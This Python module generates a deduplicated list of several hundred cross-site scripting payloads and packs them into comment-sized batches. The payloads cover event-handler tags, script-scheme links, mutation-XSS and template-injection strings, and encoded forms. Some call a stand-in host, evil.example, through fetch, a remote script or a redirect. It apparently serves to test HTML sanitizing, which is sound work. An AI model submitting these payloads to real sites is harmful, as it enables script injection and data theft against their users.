"""Words that try to run, of our own making: every element by every way in, in many writings.

Each tries a dialog, or to ask another host; harmless where text stays text.
"""

from collections.abc import Iterator
from html import escape
from itertools import product
from urllib.parse import quote

DIALOG = "alert(1)"
CALL = "fetch('https://evil.example/')"
ELEMENTS = (
    *("a", "img", "svg", "math", "video", "audio", "iframe", "object", "embed", "form"),
    *("input", "button", "details", "marquee", "body", "select", "textarea", "style"),
    *("bgsound", "dialog", "frameset", "isindex", "keygen", "track"),
)
EVENTS = ("onerror", "onload", "onfocus autofocus tabindex=1 onfocus", "onmouseover", "ontoggle")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "\x01javascript:",
    "vbscript:",
    "data:text/html,",
)
CARRIERS = (
    "a href",
    "img src",
    "iframe src",
    "form action",
    "object data",
    "link rel=import href",
    "base href",
)
WHOLE = (
    "<script>{0}</script>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<svg><script>{0}</script></svg>",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<noscript><p title='</noscript><img src=x onerror={0}>'>",
    "<!--<img src='--><img src=x onerror={0}>'>",
    "<![CDATA[<img src=x onerror={0}>]]>",
    "<template><img src=x onerror={0}></template>",
    "<p style='background:url(https://evil.example/)'>x</p>",
    "<style>@import 'https://evil.example/';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y.png 2x'>",
    "**<img src=x onerror={0}>**",
    "*<svg/onload={0}>*",
    "> <img src=x onerror={0}>",
    "- <img src=x onerror={0}>",
    "[x](javascript:{0})",
    "![x](https://evil.example/x.png)",
    "<javascript:{0}>",
    'https://a.example/"onmouseover="{0}',
    "https://a.example/'><img src=x onerror={0}>",
    "https://a.example/<script>{0}</script>",
    "http://javascript:{0}@a.example/",
    '"><img src=x onerror={0}>',
    "'-{0}-'",
    "</textarea><img src=x onerror={0}>",
    "</template><img src=x onerror={0}>",
    "</p></article></li><img src=x onerror={0}>",
    "{{{{ constructor.constructor('{0}')() }}}}",
    "{{% include 'x' %}}<img src=x onerror={0}>",
    "${{{0}}}",
    "\u202e<img src=x onerror={0}>\u202c",
    "<im\u200bg src=x onerror={0}>",
)


def vectors() -> list[str]:
    """More than three hundred, each once."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    for number, (element, event) in enumerate(product(ELEMENTS, EVENTS)):
        what = DIALOG if number % 2 else CALL
        yield f"<{element} src=x {event}={what}>"
        yield f'<{element.upper()}/{event}="{what}">x</{element}>'
    for carrier, scheme in product(CARRIERS, SCHEMES):
        yield f'<{carrier}="{scheme}{DIALOG}">x</a>'
    for form in WHOLE:
        yield form.format(DIALOG)
    for form in WHOLE[:12]:
        yield escape(form.format(DIALOG))
        yield "".join(f"&#{ord(each)};" for each in form.format(DIALOG)[:12])
        yield quote(form.format(DIALOG))


def batches(longest: int) -> list[str]:
    """All of them in as few comments as the rules allow."""
    found, batch = [], ""
    for vector in vectors():
        if len(batch) + len(vector) + 2 > longest:
            found.append(batch)
            batch = ""
        batch += f"{vector}\n\n"
    return [*found, batch]
